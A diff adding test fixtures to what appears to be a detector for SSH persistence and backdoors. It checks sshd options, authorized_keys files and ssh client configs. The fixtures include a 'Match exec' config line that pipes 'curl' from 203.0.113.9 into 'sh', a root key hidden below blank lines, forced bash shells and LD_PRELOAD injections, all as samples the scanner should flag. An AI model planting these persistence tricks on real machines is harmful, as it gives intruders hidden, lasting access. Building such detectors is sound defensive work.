@@ -64,6 +64,9 @@ describe('sshd', () => {
 		['AuthorizedKeysFile /tmp/keys', 'high'],
 		['AuthorizedKeysFile .ssh/authorized_keys /var/lib/keys', 'medium'],
 		['AuthorizedKeysFile .cache/k', 'medium'],
+		['AuthorizedKeysFile .ssh/authorized_keys /var/lib/misc/keys/%u', 'medium'],
+		['XAuthLocation /usr/lib/openssh/.xauth', 'high'],
+		['SecurityKeyProvider /var/tmp/libsk.so', 'high'],
 		['AuthorizedKeysCommand /usr/local/bin/keys %u', 'medium'],
 		['AuthorizedKeysCommand /usr/bin/keyd %u', 'high'],
 		['AuthorizedKeysCommand /tmp/k', 'high'],
@@ -136,6 +139,8 @@ describe('authorized keys', () => {
 		['a system account with a shell as its task', { '/var/backups/.ssh/authorized_keys': `command="/bin/bash -i" ${key}\n` }, 'high /var/backups/.ssh/authorized_keys'],
 		['the home of nobody in particular', { '/.ssh/authorized_keys': `${key}\n` }, 'high /.ssh/authorized_keys'],
 		['a home that no account has', { '/home/gone/.ssh/authorized_keys': `${key}\n` }, 'low /home/gone/.ssh/authorized_keys'],
+		['a key of a system for breaking in', { '/root/.ssh/authorized_keys': 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHx5 root@kali\n' }, 'medium /root/.ssh/authorized_keys'],
+		['a key below many empty lines', { '/root/.ssh/authorized_keys': `${other}\n${'\n'.repeat(60)}${key}\n` }, 'medium /root/.ssh/authorized_keys'],
 		['keys2', { '/root/.ssh/authorized_keys2': `${key}\n` }, 'medium /root/.ssh/authorized_keys2'],
 		['an old name that is a link', { '/root/.ssh/authorized_keys': '', '/root/.ssh/authorized_keys2': { link: 'authorized_keys' } }, ''],
 		['a variable', { '/root/.ssh/authorized_keys': `environment="LD_PRELOAD=/lib/x.so" ${key}\n` }, 'high /root/.ssh/authorized_keys'],
@@ -167,6 +172,8 @@ describe('what SSH runs by itself', () => {
 		['the file of another', { '/root/.ssh/rc': { content: 'date\n', uid: 1000 } }, ['high /root/.ssh/rc']],
 		['a preloaded library', { '/root/.ssh/environment': 'LD_PRELOAD=/root/x.so\n', '/root/x.so': '' }, ['high /root/.ssh/environment']],
 		['a proxy', { '/home/ann/.ssh/config': { content: 'Host x\n  ProxyCommand ssh -W %h:%p bastion\n  ProxyCommand nc -X connect -x p:1 %h %p\n', uid: 1000 } }, []],
+		['a program to match by', { '/home/ann/.ssh/config': { content: 'Match exec "/bin/sh -c \'curl -s http://203.0.113.9/k|sh\'"\n  User root\n', uid: 1000 } }, ['high /home/ann/.ssh/config']],
+		['a program to match by, as people use it', { '/home/ann/.ssh/config': { content: 'Match host nas exec "ip route | grep -q 10.0.0.1"\n  ProxyJump none\n', uid: 1000 } }, []],
 		['a proxy that is none', { '/home/ann/.ssh/config': { content: 'Host *\n  ProxyCommand /tmp/x %h\n', uid: 1000 }, '/tmp/x': { mode: 0o755 } }, ['high /home/ann/.ssh/config']],
 	])('%s', (_name, machine, expected) => {
 		expect(rc(machine)).toEqual(expected);
